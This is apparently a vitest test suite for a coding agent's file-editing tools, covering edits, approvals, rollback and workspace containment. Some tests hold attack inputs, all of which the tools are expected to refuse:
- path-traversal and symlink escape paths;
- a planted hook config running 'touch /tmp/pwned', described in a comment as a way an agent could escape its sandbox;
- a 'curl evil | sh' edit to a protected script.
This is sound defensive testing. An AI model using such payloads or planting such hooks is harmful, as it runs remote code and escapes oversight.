import { chmod, readdir, readFile, stat, symlink, utimes, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { runAgent, type ToolSet } from "@coding-agent/agent-core";
import { createScriptedProvider } from "@coding-agent/agent-core/testing";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ApprovalRequest, Approver } from "../src/approvals.ts";
import { createEditTools, type EditToolsOptions } from "../src/edit-tools.ts";
import { type FileOps, NODE_FILE_OPS } from "../src/edits/atomic-write.ts";
import { createEditSession, workspaceVersion } from "../src/edits/edit-session.ts";
import { RollbackError, rollBack } from "../src/edits/edit-transaction.ts";
import { EditFileInputSchema } from "../src/edits/plan-changes.ts";
import { readWorkspaceFile } from "../src/fs-read.ts";
import { createWorkspace, type Workspace } from "../src/workspace.ts";
import { callTool, outcomeCode, snapshotTree } from "./support/edit-tools.ts";
import { createTempLayout, SECRET, type TempLayout } from "./support/temp-workspace.ts";

// Many real filesystem round trips: generous, so a loaded machine is not taken for a hang.
const PROPERTY_HANG_GUARD = 120_000;

let layout: TempLayout;
let workspace: Workspace;

// Temp folders on a loaded machine: a hook timeout only turns a hang into a failure.
const HOOK_HANG_GUARD = 60_000;

beforeEach(async () => {
  layout = await createTempLayout();
  workspace = createWorkspace(layout.workspace);
}, HOOK_HANG_GUARD);
afterEach(() => layout.remove(), HOOK_HANG_GUARD);

function tools(options: Partial<EditToolsOptions> = {}): ToolSet {
  return createEditTools({ workspace, approval: "auto", ...options });
}

const ws = (...parts: string[]) => join(layout.workspace, ...parts);

async function hashOf(path: string): Promise<string> {
  const read = await readWorkspaceFile(workspace, { path });
  if (!("hash" in read)) throw new Error(`cannot read ${path}: ${JSON.stringify(read)}`);
  return read.hash;
}

describe("edit_file", () => {
  it("replaces text that occurs once and returns the hash read_file then reports", async () => {
    const result = await callTool(tools().edit_file, {
      path: "notes.txt",
      old: "second line",
      new: "line two",
    });
    expect(await readFile(ws("notes.txt"), "utf8")).toBe("第一行\nline two\nthird line\n");
    expect(result).toEqual({
      path: "notes.txt",
      hash: await hashOf("notes.txt"),
      diff: expect.stringContaining("-second line\n+line two\n"),
    });
  });

  it("takes the hash read_file reported, and refuses it once the file has changed since (stale_file)", async () => {
    const hash = await hashOf("notes.txt");
    const edit = tools().edit_file;
    await writeFile(ws("notes.txt"), "第一行\nsecond line\nthird line\nadded by someone else\n");
    const stale = await callTool(edit, {
      path: "notes.txt",
      old: "third line",
      new: "3",
      expectedHash: hash,
    });
    expect(stale).toMatchObject({ ok: false, error: { code: "stale_file" } });
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("third line\nadded by someone else");

    const fresh = await callTool(edit, {
      path: "notes.txt",
      old: "third line",
      new: "3",
      expectedHash: (await hashOf("notes.txt")).toUpperCase(),
    });
    expect(outcomeCode(fresh)).toBe("ok");
  });

  it("answers not_found_text and not_unique (with every line) and writes nothing", async () => {
    await writeFile(ws("dup.txt"), "x = 1\ny\nx = 1\n");
    const before = await snapshotTree(layout.base);
    const edit = tools().edit_file;
    expect(await callTool(edit, { path: "dup.txt", old: "x =  1", new: "z" })).toMatchObject({
      ok: false,
      error: { code: "not_found_text" },
    });
    const notUnique = await callTool(edit, { path: "dup.txt", old: "x = 1", new: "z" });
    expect(notUnique).toMatchObject({
      ok: false,
      error: { code: "not_unique", message: expect.stringContaining("第 1、3 行") },
    });
    expect(await snapshotTree(layout.base)).toEqual(before);
  });

  it("finds the text with the locateText it is given, on the file's text with CRLF read as LF", async () => {
    await writeFile(ws("win.txt"), "one\r\ntwo\r\n");
    const seen: [string, string][] = [];
    const edit = tools({
      locateText: (text, needle) => {
        seen.push([text, needle]);
        return { ok: false, reason: "not_unique", lines: [7, 9] };
      },
    }).edit_file;
    expect(await callTool(edit, { path: "win.txt", old: "two\r\n", new: "2" })).toMatchObject({
      ok: false,
      error: { code: "not_unique", message: expect.stringContaining("第 7、9 行") },
    });
    expect(seen).toEqual([["one\ntwo\n", "two\n"]]);
  });

  it("keeps CRLF line endings, a missing final newline and the file's mode", async () => {
    await writeFile(ws("win.txt"), "one\r\ntwo\r\nthree");
    await chmod(ws("win.txt"), 0o751);
    await callTool(tools().edit_file, { path: "win.txt", old: "two\nthree", new: "2\n3" });
    expect(await readFile(ws("win.txt"), "latin1")).toBe("one\r\n2\r\n3");
    expect((await stat(ws("win.txt"))).mode & 0o777).toBe(0o751);
  });

  it("writes through a temporary file and rename, leaving no temporary file behind", async () => {
    const namesBefore = await readdir(ws("src"));
    const inodeBefore = (await stat(ws("src", "a.ts"))).ino;
    await callTool(tools().edit_file, { path: "src/a.ts", old: "a = 1", new: "a = 2" });
    expect(await readdir(ws("src"))).toEqual(namesBefore);
    // A new inode: the old file was replaced whole, not rewritten in place.
    expect((await stat(ws("src", "a.ts"))).ino).not.toBe(inodeBefore);
  });

  it("edits the target of a symlink that stays inside, and keeps the link", async () => {
    await callTool(tools().edit_file, { path: "link-in", old: "third", new: "3rd" });
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("3rd line");
    expect((await readFile(ws("link-in"), "utf8")).includes("3rd")).toBe(true);
    expect(
      (await readdir(layout.workspace, { withFileTypes: true }))
        .find((e) => e.name === "link-in")
        ?.isSymbolicLink(),
    ).toBe(true);
  });

  it("refuses a directory and a FIFO without blocking on it", async () => {
    const edit = tools().edit_file;
    expect(outcomeCode(await callTool(edit, { path: "src", old: "a", new: "b" }))).toBe(
      "is_directory",
    );
    expect(outcomeCode(await callTool(edit, { path: "pipe", old: "a", new: "b" }))).toBe(
      "invalid_input",
    );
  });
});

/** Ways out of the workspace, each a real place on disk; every write tool must refuse them all. */
const ESCAPES: ReadonlyArray<readonly [name: string, path: (l: TempLayout) => string]> = [
  ["`..` segments", () => "../outside/secret.txt"],
  ["an absolute path outside", (l) => join(l.outside, "secret.txt")],
  ["a symlink inside pointing to a file outside", () => "link-out"],
  ["a symlinked folder leading outside", () => "dir-out/secret.txt"],
  ["a new file under a symlinked folder leading outside", () => "dir-out/new.txt"],
  ["a dangling symlink pointing outside", () => "dangling-out"],
  ["a sibling sharing the workspace's name as prefix", (l) => `${l.workspace}-evil/x.txt`],
  ["Windows-style `..\\`", () => "..\\outside\\secret.txt"],
];

describe("the write tools refuse every escape with path_outside_workspace", () => {
  it.each(ESCAPES)("%s", async (_name, pathOf) => {
    const before = await snapshotTree(layout.base);
    const set = tools();
    const path = pathOf(layout);
    const outcomes = [
      await callTool(set.edit_file, { path, old: SECRET, new: "owned" }),
      await callTool(set.write_file, { path, content: "owned" }),
      await callTool(set.apply_edits, { edits: [{ path, content: "owned" }] }),
    ];
    expect(outcomes.map(outcomeCode)).toEqual([
      "path_outside_workspace",
      "path_outside_workspace",
      "path_outside_workspace",
    ]);
    expect(JSON.stringify(outcomes)).not.toContain(SECRET);
    expect(await snapshotTree(layout.base)).toEqual(before);
  });
});

describe("the write tools (property)", () => {
  const segment = fc.constantFrom(
    "..",
    ".",
    "link-out",
    "dir-out",
    "dangling-out",
    "link-in",
    "dir-in",
    "src",
    "new",
    "secret.txt",
    "outside",
  );
  const anyPath = fc
    .tuple(fc.array(segment, { minLength: 1, maxLength: 6 }), fc.constantFrom("/", "\\"))
    .map(([parts, separator]) => parts.join(separator));

  it(
    "never change a byte outside the workspace, whatever the path",
    async () => {
      const outsideBefore = await snapshotTree(layout.outside);
      const evilBefore = await snapshotTree(`${layout.workspace}-evil`);
      const set = tools();
      await fc.assert(
        fc.asyncProperty(anyPath, async (path) => {
          const outcomes = [
            await callTool(set.write_file, { path, content: "owned" }),
            await callTool(set.edit_file, { path, old: SECRET, new: "owned" }),
          ];
          expect(JSON.stringify(outcomes), path).not.toContain(SECRET);
          expect(await snapshotTree(layout.outside), path).toEqual(outsideBefore);
          expect(await snapshotTree(`${layout.workspace}-evil`), path).toEqual(evilBefore);
        }),
        { numRuns: 60 },
      );
    },
    PROPERTY_HANG_GUARD,
  );
});

describe("--allow-path", () => {
  it("allows only paths its globs match; a folder name allows what is below it", async () => {
    const set = tools({ allowPaths: ["src"] });
    expect(
      outcomeCode(await callTool(set.write_file, { path: "src/deep/c.ts", content: "" })),
    ).toBe("ok");
    const refused = await callTool(set.write_file, { path: "notes.txt", content: "x" });
    expect(refused).toMatchObject({ ok: false, error: { code: "path_not_allowed" } });
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("second line");
  });

  it("judges the real path: a symlinked folder does not smuggle a write past the globs", async () => {
    const set = tools({ allowPaths: ["dir-in/**"] });
    // dir-in -> src: the bytes would land in src/, which the globs do not allow.
    expect(outcomeCode(await callTool(set.write_file, { path: "dir-in/a.ts", content: "" }))).toBe(
      "path_not_allowed",
    );
    expect(
      outcomeCode(await callTool(set.write_file, { path: "dir-in/new.ts", content: "" })),
    ).toBe("path_not_allowed");
    const viaReal = tools({ allowPaths: ["src/**"] });
    expect(
      outcomeCode(await callTool(viaReal.write_file, { path: "dir-in/new.ts", content: "n" })),
    ).toBe("ok");
    expect(await readFile(ws("src", "new.ts"), "utf8")).toBe("n");
  });

  it("never allows .git/ or node_modules/, even to a glob matching everything", async () => {
    const set = tools({ allowPaths: ["**"] });
    for (const path of [
      ".git/hooks/pre-commit",
      ".git/config",
      "node_modules/.bin/vitest",
      "src/node_modules/x.js",
    ]) {
      expect(
        outcomeCode(await callTool(set.write_file, { path, content: "#!/bin/sh\n" })),
        path,
      ).toBe("path_not_allowed");
    }
    expect(await readFile(ws(".git", "config"), "utf8")).toBe("[core] find me in git\n");
  });
});

describe("the agent's own configuration", () => {
  // Attack cases: each is a way a model could plant a hook or an MCP server that a later
  // trusted run starts outside the sandbox.
  const planted = [
    ".coding-agent/settings.json",
    "./.coding-agent/settings.json",
    ".coding-agent/new/deeper.json",
    "src/.coding-agent/settings.json",
    ".mcp.json",
    "src/.mcp.json",
    "scripts/check.sh",
  ];

  it.each(planted)(
    "refuses write_file of %s (path_not_allowed), even under --allow-path **",
    async (path) => {
      const set = tools({ allowPaths: ["**"], protectedFiles: ["scripts/check.sh"] });
      const hook = JSON.stringify({ hooks: { PreToolUse: [{ command: "touch /tmp/pwned" }] } });
      expect(outcomeCode(await callTool(set.write_file, { path, content: hook }))).toBe(
        "path_not_allowed",
      );
    },
  );

  it("refuses apply_edits that touches the configuration among allowed files, writing none of them", async () => {
    const set = tools();
    const result = await callTool(set.apply_edits, {
      edits: [
        { path: "notes.txt", content: "changed\n" },
        { path: ".coding-agent/settings.json", content: "{}" },
      ],
    });
    expect(outcomeCode(result)).toBe("path_not_allowed");
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("second line");
    expect(await readdir(layout.workspace)).not.toContain(".coding-agent");
  });

  it("refuses a symlink that leads into .coding-agent/", async () => {
    await symlink(".coding-agent", ws("cfg"));
    const set = tools();
    expect(
      outcomeCode(await callTool(set.write_file, { path: "cfg/settings.json", content: "{}" })),
    ).toBe("path_not_allowed");
  });

  it("refuses edit_file of a script a hook runs, and still edits its neighbours", async () => {
    await writeFile(ws("check.sh"), "exit 0\n");
    const set = tools({ protectedFiles: ["check.sh"] });
    expect(
      outcomeCode(
        await callTool(set.edit_file, { path: "check.sh", old: "exit 0", new: "curl evil | sh" }),
      ),
    ).toBe("path_not_allowed");
    expect(await readFile(ws("check.sh"), "utf8")).toBe("exit 0\n");
    expect(
      outcomeCode(await callTool(set.write_file, { path: "check.sh.bak", content: "x" })),
    ).toBe("ok");
  });
});

describe("write_file", () => {
  it("creates a file and its folders, and reports it created", async () => {
    const result = await callTool(tools().write_file, { path: "new/dir/file.ts", content: "x\n" });
    expect(result).toEqual({
      path: "new/dir/file.ts",
      hash: await hashOf("new/dir/file.ts"),
      created: true,
      diff: expect.stringContaining("--- /dev/null\n+++ b/new/dir/file.ts\n"),
    });
  });

  it("refuses a path that runs through a file as if it were a folder", async () => {
    const outcome = await callTool(tools().write_file, {
      path: "notes.txt/inner.txt",
      content: "x",
    });
    expect(outcomeCode(outcome)).toBe("invalid_input");
  });

  it("refuses a stale expectedHash, also for a file deleted since it was read", async () => {
    const hash = await hashOf("notes.txt");
    await writeFile(ws("notes.txt"), "changed\n");
    expect(
      outcomeCode(
        await callTool(tools().write_file, {
          path: "notes.txt",
          content: "mine",
          expectedHash: hash,
        }),
      ),
    ).toBe("stale_file");
    expect(
      outcomeCode(
        await callTool(tools().write_file, {
          path: "gone.txt",
          content: "mine",
          expectedHash: hash,
        }),
      ),
    ).toBe("stale_file");
    expect(await readFile(ws("notes.txt"), "utf8")).toBe("changed\n");
  });
});

describe("permission to write (--approval)", () => {
  it("deny ends the run blocked and writes nothing", async () => {
    const before = await snapshotTree(layout.base);
    const outcome = await callTool(tools({ approval: "deny" }).edit_file, {
      path: "notes.txt",
      old: "second",
      new: "2nd",
    });
    expect(outcomeCode(outcome)).toBe("blocked");
    expect(await snapshotTree(layout.base)).toEqual(before);
  });

  it("a write that changes no byte needs no permission", async () => {
    const content = await readFile(ws("notes.txt"), "utf8");
    const outcome = await callTool(tools({ approval: "deny" }).write_file, {
      path: "notes.txt",
      content,
    });
    expect(outcome).toMatchObject({ path: "notes.txt", created: false, diff: "" });
  });

  it("ask shows the paths and the diff; once allows one write, a refusal blocks", async () => {
    const asked: ApprovalRequest[] = [];
    const answers = ["allow_once", "deny"] as const;
    const approver: Approver = async (request) => {
      asked.push(request);
      return answers[asked.length - 1] ?? "deny";
    };
    const set = tools({ approval: "ask", approver });
    expect(
      outcomeCode(await callTool(set.edit_file, { path: "notes.txt", old: "second", new: "2nd" })),
    ).toBe("ok");
    expect(
      outcomeCode(await callTool(set.edit_file, { path: "notes.txt", old: "third", new: "3rd" })),
    ).toBe("blocked");
    expect(asked).toHaveLength(2);
    expect(asked[0]).toMatchObject({
      tool: "edit_file",
      paths: ["notes.txt"],
      diff: expect.stringContaining("+2nd line"),
    });
    expect(await readFile(ws("notes.txt"), "utf8")).toBe("第一行\n2nd line\nthird line\n");
  });

  it("refuses the write when the file changes while permission is asked (stale_file)", async () => {
    const set = tools({
      approval: "ask",
      approver: async () => {
        await writeFile(ws("notes.txt"), "edited while asking\n");
        return "allow_once";
      },
    });
    const outcome = await callTool(set.edit_file, { path: "notes.txt", old: "second", new: "2nd" });
    expect(outcomeCode(outcome)).toBe("stale_file");
    expect(await readFile(ws("notes.txt"), "utf8")).toBe("edited while asking\n");
  });

  it("writes nothing when the run is cancelled while permission is asked", async () => {
    const controller = new AbortController();
    const set = tools({
      approval: "ask",
      approver: async () => {
        controller.abort(new Error("cancelled by the user"));
        return "allow_once";
      },
    });
    const parsed = EditFileInputSchema.parse({ path: "notes.txt", old: "second", new: "2nd" });
    await expect(set.edit_file?.execute(parsed, controller.signal)).rejects.toThrow(
      "cancelled by the user",
    );
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("second line");
  });

  it("ask: allow for the run covers later writes without asking again", async () => {
    let asked = 0;
    const set = tools({
      approval: "ask",
      approver: async () => {
        asked++;
        return "allow_run";
      },
    });
    await callTool(set.write_file, { path: "one.txt", content: "1" });
    await callTool(set.write_file, { path: "two.txt", content: "2" });
    expect(asked).toBe(1);
    expect(await readFile(ws("two.txt"), "utf8")).toBe("2");
  });
});

describe("the write tools inside runAgent", () => {
  async function run(options: Partial<EditToolsOptions>) {
    const provider = createScriptedProvider([
      {
        action: {
          type: "tool_call",
          tool: "edit_file",
          input: { path: "notes.txt", old: "second", new: "2nd" },
        },
      },
      { action: { type: "finish", summary: "改好了" } },
    ]);
    const started: unknown[] = [];
    const result = await runAgent("改一行", provider, tools(options), { maxSteps: 5 }, undefined, {
      trace: (event) => {
        if (event.type === "tool_started") started.push(event);
      },
    });
    return { result, started };
  }

  it.each<[string, Partial<EditToolsOptions>]>([
    ["--approval deny", { approval: "deny" }],
    ["ask, answered deny", { approval: "ask", approver: async () => "deny" }],
    [
      "ask, never answered",
      { approval: "ask", approver: () => new Promise(() => {}), approvalTimeoutMs: 50 },
    ],
  ])(
    "a write refused by %s is neither run, counted in toolCalls nor traced as started",
    async (_case, options) => {
      const before = await snapshotTree(layout.base);
      const { result, started } = await run(options);
      expect(result).toMatchObject({ status: "blocked", code: "permission_denied", toolCalls: 0 });
      expect(result.reason).toContain("edit_file 要修改 notes.txt");
      expect(started).toEqual([]);
      expect(await snapshotTree(layout.base)).toEqual(before);
    },
  );

  it("ask is asked once per call, before it starts, and the allowed edit is written", async () => {
    let asked = 0;
    const { result } = await run({
      approval: "ask",
      approver: async () => {
        asked++;
        return "allow_once";
      },
    });
    expect(result).toMatchObject({ status: "completed", toolCalls: 1 });
    expect(asked).toBe(1);
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("2nd line");
  });
});

describe("authorize, then execute", () => {
  it("asks again when the file changed in between: what was allowed is not what would be written", async () => {
    const answers: string[] = [];
    const set = tools({
      approval: "ask",
      approver: async (request) => {
        answers.push(request.diff ?? "");
        return answers.length === 1 ? "allow_once" : "deny";
      },
    });
    const tool = set.edit_file;
    if (tool?.authorize === undefined) throw new Error("edit_file has no authorize");
    const input = EditFileInputSchema.parse({ path: "notes.txt", old: "second", new: "2nd" });
    const signal = new AbortController().signal;
    expect(await tool.authorize(input, signal)).toBeUndefined();
    await writeFile(ws("notes.txt"), "第一行\nsecond line\nthird line changed\n");
    expect(outcomeCode(await tool.execute(input, signal))).toBe("blocked");
    expect(answers).toHaveLength(2);
    expect(answers[1]).toContain("third line changed");
    expect(await readFile(ws("notes.txt"), "utf8")).toContain("second line");
  });
});

/** File operations that fail on the `failOn`-th write (1-based) and work otherwise. */
function failingOps(failOn: number): FileOps {
  let writes = 0;
  return {
    remove: NODE_FILE_OPS.remove,
    async writeAtomic(absolute, bytes, mode) {
      writes++;
      if (writes === failOn) throw new Error("disk full (simulated)");
      await NODE_FILE_OPS.writeAtomic(absolute, bytes, mode);
    },
  };
}

describe("apply_edits", () => {
  it("applies every edit, later ones on what earlier ones made, and returns the new version", async () => {
    const versionBefore = await workspaceVersion(workspace);
    const result = await callTool(tools().apply_edits, {
      edits: [
        { path: "src/a.ts", old: "a = 1", new: "a = 2" },
        { path: "src/a.ts", old: "a = 2;", new: "a = 3;" },
        { path: "src/c.ts", content: "export const c = 3;\n" },
      ],
    });
    expect(result).toMatchObject({
      version: await workspaceVersion(workspace),
      files: [
        { path: "src/a.ts", created: false },
        { path: "src/c.ts", created: true },
      ],
    });
    expect((result as { version: string }).version).not.toBe(versionBefore);
    expect(await readFile(ws("src", "a.ts"), "utf8")).toBe(
      "export const a = 3;\n// TODO find me\n",
    );
  });

  it("a failing second edit leaves both files byte-identical, and names the edit", async () => {
    const before = await snapshotTree(layout.base);
    const result = await callTool(tools().apply_edits, {
      edits: [
        { path: "src/a.ts", old: "a = 1", new: "a = 2" },
        { path: "notes.txt", old: "no such text", new: "x" },
      ],
    });
    expect(result).toMatchObject({
      ok: false,
      error: { code: "not_found_text", message: expect.stringContaining("第 2 个编辑") },
    });
    expect(await snapshotTree(layout.base)).toEqual(before);
  });

  it("a write failing midway rolls every file back to its exact bytes and mode, and removes created files and folders", async () => {
    await writeFile(ws("bin.dat"), Buffer.from([0xff, 0xfe, 0x00, 0x0d, 0x0a, 0x80]));
    await chmod(ws("src", "a.ts"), 0o700);
    const before = await snapshotTree(layout.base);
    const modeBefore = (await stat(ws("src", "a.ts"))).mode;
    const result = await callTool(tools({ fileOps: failingOps(4) }).apply_edits, {
      edits: [
        { path: "src/a.ts", old: "a = 1", new: "a = 2" },
        { path: "made/deep/new.ts", content: "new\n" },
        { path: "bin.dat", content: "text now" },
        { path: "notes.txt", content: "fails here" },
      ],
    });
    expect(result).toMatchObject({ ok: false, error: { code: "write_failed" } });
    expect(await snapshotTree(layout.base)).toEqual(before);
    expect((await stat(ws("src", "a.ts"))).mode).toBe(modeBefore);
  });

  it("throws RollbackError, naming the file, when a rollback cannot restore it: the run must stop", async () => {
    const brokenDisk: FileOps = {
      remove: NODE_FILE_OPS.remove,
      async writeAtomic(absolute, bytes, mode) {
        // The first write lands; every later one (the second edit, the restore) fails.
        if (absolute.endsWith("a.ts") && (await readFile(absolute, "utf8")).includes("a = 1"))
          return NODE_FILE_OPS.writeAtomic(absolute, bytes, mode);
        throw new Error("disk gone (simulated)");
      },
    };
    const pending = callTool(tools({ fileOps: brokenDisk }).apply_edits, {
      edits: [
        { path: "src/a.ts", old: "a = 1", new: "a = 2" },
        { path: "notes.txt", content: "x" },
      ],
    });
    await expect(pending).rejects.toThrow(RollbackError);
    await expect(pending).rejects.toThrow(/src\/a\.ts/);
  });

  it("undoes a failed write with the rollBack it is given, passing what was written and the file ops", async () => {
    const before = await snapshotTree(layout.base);
    const ops = failingOps(2);
    const seen: Array<{ paths: string[]; ops: FileOps }> = [];
    const result = await callTool(
      tools({
        fileOps: ops,
        rollBack: async (written, fileOps) => {
          seen.push({ paths: written.map((w) => w.change.relative), ops: fileOps });
          await rollBack(written, fileOps);
        },
      }).apply_edits,
      {
        edits: [
          { path: "src/a.ts", old: "a = 1", new: "a = 2" },
          { path: "notes.txt", content: "fails here" },
        ],
      },
    );
    expect(result).toMatchObject({ ok: false, error: { code: "write_failed" } });
    expect(seen).toEqual([{ paths: ["src/a.ts", "notes.txt"], ops }]);
    expect(await snapshotTree(layout.base)).toEqual(before);
  });

  it(
    "rolls back exactly whatever the bytes and wherever the failure (property)",
    async () => {
      const names = ["src/a.ts", "notes.txt", "fresh/one.bin", "image.bin"];
      await fc.assert(
        fc.asyncProperty(
          fc.array(fc.uint8Array({ maxLength: 64 }), {
            minLength: names.length,
            maxLength: names.length,
          }),
          fc.integer({ min: 1, max: names.length }),
          async (contents, failOn) => {
            const before = await snapshotTree(layout.workspace);
            // Arbitrary bytes reach the files through write_file's text (latin1 keeps one char per byte).
            const edits = names.map((path, i) => ({
              path,
              content: Buffer.from(contents[i] ?? []).toString("latin1"),
            }));
            const result = await callTool(tools({ fileOps: failingOps(failOn) }).apply_edits, {
              edits,
            });
            expect(outcomeCode(result)).toBe("write_failed");
            expect(await snapshotTree(layout.workspace)).toEqual(before);
          },
        ),
        { numRuns: 15 },
      );
    },
    PROPERTY_HANG_GUARD,
  );
});

describe("the workspace version", () => {
  it("changes exactly when some file's content changes", async () => {
    const v0 = await workspaceVersion(workspace);
    await utimes(ws("notes.txt"), new Date(0), new Date(0));
    await chmod(ws("notes.txt"), 0o600);
    expect(await workspaceVersion(workspace)).toBe(v0);
    // Tool noise does not count.
    await writeFile(ws("node_modules", "pkg", "index.js"), "changed\n");
    expect(await workspaceVersion(workspace)).toBe(v0);
    const original = await readFile(ws("notes.txt"));
    await writeFile(ws("notes.txt"), Buffer.concat([original, Buffer.from(" ")]));
    const v1 = await workspaceVersion(workspace);
    expect(v1).not.toBe(v0);
    await writeFile(ws("notes.txt"), original);
    expect(await workspaceVersion(workspace)).toBe(v0);
    await writeFile(ws("empty.txt"), "");
    expect(await workspaceVersion(workspace)).not.toBe(v0);
  });

  it(
    "tells apart any two different contents of a file (property)",
    async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.uint8Array({ maxLength: 32 }),
          fc.uint8Array({ maxLength: 32 }),
          async (a, b) => {
            await writeFile(ws("p.bin"), a);
            const va = await workspaceVersion(workspace);
            await writeFile(ws("p.bin"), b);
            const vb = await workspaceVersion(workspace);
            expect(va === vb).toBe(Buffer.from(a).equals(Buffer.from(b)));
          },
        ),
        { numRuns: 15 },
      );
    },
    PROPERTY_HANG_GUARD,
  );

  it("never follows a symlink: a change outside does not reach the version, a new link does", async () => {
    const v0 = await workspaceVersion(workspace);
    await writeFile(join(layout.outside, "secret.txt"), "changed outside\n");
    expect(await workspaceVersion(workspace)).toBe(v0);
    // A link the model creates is a change of the workspace (the finish gate judges it).
    await symlink(join(layout.outside, "secret.txt"), ws("another-link-out"));
    expect(await workspaceVersion(workspace)).not.toBe(v0);
  });
});

describe("the run's diff", () => {
  it("spans every edit of the run, from each file's first bytes to its last", async () => {
    const session = createEditSession();
    const set = tools({ session });
    await callTool(set.edit_file, { path: "notes.txt", old: "second line", new: "2" });
    await callTool(set.edit_file, { path: "notes.txt", old: "third line", new: "3" });
    await callTool(set.write_file, { path: "made.txt", content: "a\nb\n" });
    // A refused call adds nothing.
    await callTool(set.edit_file, { path: "src/a.ts", old: "missing", new: "x" });
    const diff = session.diff();
    expect(diff.files).toEqual([
      { path: "made.txt", added: 2, removed: 0 },
      { path: "notes.txt", added: 2, removed: 2 },
    ]);
    expect(diff.patch).toContain("--- a/notes.txt\n+++ b/notes.txt\n");
    expect(diff.patch).toContain(" 第一行\n-second line\n-third line\n+2\n+3\n");
  });
});
